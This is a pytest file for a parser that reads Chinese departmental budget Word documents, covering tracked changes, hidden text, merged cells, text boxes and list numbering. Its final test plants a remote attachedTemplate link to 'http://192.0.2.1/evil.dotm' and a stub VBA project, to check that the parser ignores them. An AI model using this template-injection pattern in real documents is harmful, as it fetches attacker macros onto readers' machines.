"""Word documents as the printed page has them: list numbers, merged cells, smart tags, corrections, text boxes."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from docx.oxml import parse_xml

from ingest.facts import table_facts
from ingest.read import parse
from ingest.readers.word_numbering import written

NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:v="urn:schemas-microsoft-com:vml"'
)
TITLE = ("示例市水务局", "2024年部门预算情况说明")


def run(text: str, properties: str = "") -> str:
    return f'<w:r><w:rPr>{properties}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'


def paragraph(inside: str, properties: str = "") -> str:
    return f"<w:p><w:pPr>{properties}</w:pPr>{inside}</w:p>"


def cell(text: str, properties: str = "") -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{paragraph(run(text))}</w:tc>"


def table(*rows: str, properties: str = "") -> str:
    return f"<w:tbl><w:tblPr>{properties}</w:tblPr>{''.join(f'<w:tr>{row}</w:tr>' for row in rows)}</w:tbl>"


SIMPLE = (
    paragraph(run("支出总表"))
    + paragraph(run("单位：万元"))
    + table(
        cell("科目编码") + cell("科目名称") + cell("合计"),
        cell("213") + cell("农林水支出") + cell("12.25"),
    )
)


def document(*inside: str, title=TITLE) -> docx.document.Document:
    made = docx.Document()
    for line in title:
        made.add_heading(line, 1)
    body = made.element.body
    for text in inside:
        for element in parse_xml(f"<w:body {NS}>{text}</w:body>"):
            body.insert(len(body) - 1, element)
    return made


def saved(made) -> bytes:
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def read(*inside: str, **options):
    return parse(saved(document(*inside, **options)), "示例.docx")


def numbers(found) -> list[tuple]:
    return [
        (f.code, f.row[-1:], f.column, str(f.value), f.place.anchor) for f in table_facts(found) if f.value is not None
    ]


def test_paragraphs_and_tables_in_order():
    found = read(
        paragraph(run("一、说明")),
        paragraph(run("公务接待费预算1.20万元。")),
        SIMPLE,
        paragraph(run("注：本表反映当年支出。")),
    )
    assert (found.organisation, found.year, found.kind, found.scope) == ("示例市水务局", 2024, "budget", "department")
    assert [(p.text, p.section, p.place.anchor) for p in found.paragraphs] == [
        ("公务接待费预算1.20万元。", ("一、说明",), "p1")
    ]
    assert [(t.title, t.unit, t.notes) for t in found.tables] == [("支出总表", "万元", ("注：本表反映当年支出。",))]
    assert numbers(found) == [("213", ("农林水支出",), ("合计",), "12.25", "t1r2c3")]


@pytest.mark.parametrize(
    "inside",
    [
        run("公务接待费预算") + run("1.2") + run("0万元。"),
        f'{run("公务接待费预算")}<w:smartTag w:element="chmetcnv">{run("1.20")}</w:smartTag>{run("万元。")}',
        f'{run("公务接待费预算")}<w:ins w:id="1">{run("1.20")}</w:ins><w:del w:id="2"><w:r><w:delText>9.99</w:delText></w:r></w:del>{run("万元。")}',
        f"{run('公务接待费预算1.20')}{run('999', '<w:vanish/>')}{run('万元。')}",
        f'{run("公务接待费预算1.20")}<w:hyperlink w:anchor="x">{run("万元")}</w:hyperlink>{run("。")}',
        f"<w:sdt><w:sdtContent>{run('公务接待费预算1.20万元。')}</w:sdtContent></w:sdt>",
        (
            f'{run("公务接待费预算")}<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>= 9 + 9</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{run("1.20")}<w:r><w:fldChar w:fldCharType="end"/></w:r>{run("万元。")}'
        ),
        f'{run("公务接待费预算1.20万元。")}<w:r><w:commentReference w:id="0"/><w:footnoteReference w:id="1"/></w:r>',
    ],
)
def test_a_paragraph_is_what_the_page_prints(inside):
    found = read(paragraph(run("一、说明")), paragraph(inside), SIMPLE)
    assert [p.text for p in found.paragraphs] == ["公务接待费预算1.20万元。"]


def test_hidden_and_deleted_paragraphs_and_rows_are_left_out():
    found = read(
        paragraph(run("一、说明")),
        paragraph(run("公务接待费预算999.99万元。", "<w:vanish/>")),
        paragraph('<w:del w:id="3"><w:r><w:delText>公务接待费预算999.99万元。</w:delText></w:r></w:del>'),
        paragraph(run("支出总表"))
        + paragraph(run("单位：万元"))
        + table(
            cell("科目编码") + cell("科目名称") + cell("合计"),
            f'<w:trPr><w:del w:id="4"/></w:trPr>{cell("999")}{cell("作废")}{cell("1.00")}',
            f"<w:trPr><w:hidden/></w:trPr>{cell('998')}{cell('作废')}{cell('1.00')}",
            cell("213") + cell("农林水支出") + cell("12.25"),
        ),
    )
    assert found.paragraphs == ()
    assert [n[0] for n in numbers(found)] == ["213"]


def test_a_text_box_is_read_once():
    box = f"<w:txbxContent>{paragraph(run('公务接待费预算1.20万元。'))}</w:txbxContent>"
    drawn = (
        f'<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:wsp><wps:txbx>{box}</wps:txbx></wps:wsp></w:drawing></mc:Choice>'
        f"<mc:Fallback><w:pict><v:shape><v:textbox>{box}</v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )
    found = read(paragraph(run("一、说明")), paragraph(run("情况如下。") + drawn), SIMPLE)
    assert [p.text for p in found.paragraphs] == ["情况如下。", "公务接待费预算1.20万元。"]
    old = f"<w:r><w:pict><v:shape><v:textbox>{box}</v:textbox></v:shape></w:pict></w:r>"
    found = read(paragraph(run("一、说明")), paragraph(old), SIMPLE)
    assert [p.text for p in found.paragraphs] == ["公务接待费预算1.20万元。"]


LEVELS = (
    cell("科目编码", '<w:vMerge w:val="restart"/>')
    + cell("科目名称", '<w:vMerge w:val="restart"/>')
    + cell("2024年预算数", '<w:gridSpan w:val="3"/>'),
    cell("", "<w:vMerge/>") + cell("", "<w:vMerge/>") + cell("合计") + cell("基本支出") + cell("项目支出"),
    cell("213") + cell("农林水支出") + cell("12.25") + cell("2.25") + cell("10.00"),
    cell("合计", '<w:gridSpan w:val="2"/>') + cell("12.25") + cell("2.25") + cell("10.00"),
)


def test_merged_cells_make_levels():
    found = read(paragraph(run("支出总表")) + paragraph(run("单位：万元")) + table(*LEVELS))
    assert [n[:4] for n in numbers(found)] == [
        ("213", ("农林水支出",), ("2024年预算数", "合计"), "12.25"),
        ("213", ("农林水支出",), ("2024年预算数", "基本支出"), "2.25"),
        ("213", ("农林水支出",), ("2024年预算数", "项目支出"), "10.00"),
        (None, ("合计",), ("2024年预算数", "合计"), "12.25"),
        (None, ("合计",), ("2024年预算数", "基本支出"), "2.25"),
        (None, ("合计",), ("2024年预算数", "项目支出"), "10.00"),
    ]
    assert all(f.value is not None for f in table_facts(found))  # what a merged cell covers is no blank


def test_rows_that_begin_further_right_and_cells_in_controls():
    found = read(
        paragraph(run("支出总表"))
        + paragraph(run("单位：万元"))
        + table(
            cell("科目编码") + cell("科目名称") + cell("合计"),
            f'<w:trPr><w:gridBefore w:val="1"/></w:trPr>{cell("合计")}{cell("12.25")}',
            f"{cell('213')}{cell('农林水支出')}<w:sdt><w:sdtContent>{cell('12.25')}</w:sdtContent></w:sdt>",
        )
    )
    assert [n[:4] for n in numbers(found)] == [
        (None, ("合计",), ("合计",), "12.25"),
        ("213", ("农林水支出",), ("合计",), "12.25"),
    ]


def test_a_table_that_lays_the_page_out_is_walked_through():
    inner = table(cell("项目") + cell("预算数（万元）"), cell("培训费") + cell("1.50"))
    outer = table(f"<w:tc><w:tcPr/>{paragraph(run('收支总表'))}{inner}{paragraph('')}</w:tc>{cell('示意图')}")
    found = read(outer)
    assert [n[1:4] for n in numbers(found)] == [(("培训费",), ("预算数",), "1.50")]


def numbered(kind: str, text: str, level: str = "0") -> str:
    return (
        f'<w:abstractNum {NS} w:abstractNumId="{kind}"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="{kind}"/>'
        f'<w:lvlText w:val="{text}"/></w:lvl><w:lvl w:ilvl="1"><w:start w:val="1"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="（%2）"/></w:lvl></w:abstractNum>'
    )


def test_numbers_that_word_counts_are_printed():
    made = document()
    numbering = made.part.numbering_part.element
    for child in list(numbering):
        numbering.remove(child)
    numbering.append(parse_xml(numbered("chineseCounting", "%1、")))
    numbering.append(parse_xml(f'<w:num {NS} w:numId="7"><w:abstractNumId w:val="chineseCounting"/></w:num>'))

    def item(text: str, level: int) -> str:
        return paragraph(run(text), f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="7"/></w:numPr>')

    body = made.element.body
    inside = (
        item("基本情况", 0)
        + item("主要职责", 1)
        + paragraph(run("负责全市供水。"))
        + item("机构设置", 1)
        + paragraph(run("内设办公室。"))
        + item("收支情况", 0)
        + item("收入预算", 1)
        + paragraph(run("收入1.00万元。"))
        + SIMPLE
    )
    for element in parse_xml(f"<w:body {NS}>{inside}</w:body>"):
        body.insert(len(body) - 1, element)
    found = parse(saved(made), "示例.docx")
    assert [(p.text, p.section) for p in found.paragraphs] == [
        ("负责全市供水。", ("一、基本情况", "（一）主要职责")),
        ("内设办公室。", ("一、基本情况", "（二）机构设置")),
        ("收入1.00万元。", ("二、收支情况", "（一）收入预算")),
    ]


@pytest.mark.parametrize(
    ("number", "style", "text"),
    [
        (1, "chineseCounting", "一"),
        (10, "chineseCounting", "十"),
        (12, "chineseCountingThousand", "十二"),
        (21, "japaneseCounting", "二十一"),
        (105, "chineseCounting", "一百〇五"),
        (3, "decimal", "3"),
        (3, "decimalEnclosedCircleChinese", "③"),
        (4, "upperRoman", "IV"),
        (2, "lowerLetter", "b"),
        (12, "decimalFullWidth", "１２"),
        (0, "chineseCounting", "0"),
        (7, "somethingNew", "7"),
    ],
)
def test_list_numbers_are_written_in_words_style(number, style, text):
    assert written(number, style) == text


def test_contents_are_left_out():
    made = document(paragraph(run("一、说明")), paragraph(run("公务接待费预算1.20万元。")), SIMPLE)
    contents = (
        '<w:sdt><w:sdtPr><w:docPartObj><w:docPartGallery w:val="Table of Contents"/></w:docPartObj></w:sdtPr><w:sdtContent>'
        + paragraph(run("一、说明") + "<w:r><w:tab/></w:r>" + run("12"))
        + "</w:sdtContent></w:sdt>"
    )
    made.element.body.insert(2, parse_xml(f"<w:body {NS}>{contents}</w:body>")[0])
    found = parse(saved(made), "示例.docx")
    assert [(p.text, p.section) for p in found.paragraphs] == [("公务接待费预算1.20万元。", ("一、说明",))]


def changed(data: bytes, replacements: dict[str, tuple[bytes, bytes]], extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            content = source.read(name)
            if name in replacements:
                assert replacements[name][0] in content
                content = content.replace(*replacements[name])
            target.writestr(name, content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def test_macros_and_outside_links_are_ignored():
    data = changed(
        saved(document(SIMPLE)),
        {
            "[Content_Types].xml": (
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
            "word/_rels/document.xml.rels": (
                b"</Relationships>",
                (
                    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                    b'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/><Relationship Id="rIdY" '
                    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="../NULL"/>'
                    b'<Relationship Id="rIdZ" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'
                ),
            ),
        },
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
    )
    assert [n[0] for n in numbers(parse(data, "示例.docm"))] == ["213"]
